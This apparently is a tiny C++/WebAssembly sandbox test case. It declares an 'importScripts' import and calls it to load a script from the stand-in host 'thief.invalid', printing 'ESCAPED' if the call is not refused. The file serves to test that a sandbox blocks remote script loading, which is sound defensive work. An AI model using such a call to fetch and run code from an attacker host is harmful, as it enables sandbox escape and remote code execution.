// expect: refused "importScripts"
#include <cstdio>

__attribute__((import_module("asyncio_web"), import_name("importScripts"))) void import_scripts(const char*, unsigned);

int main() {
  import_scripts("http://thief.invalid/s.js", 25);
  std::puts("ESCAPED");
}
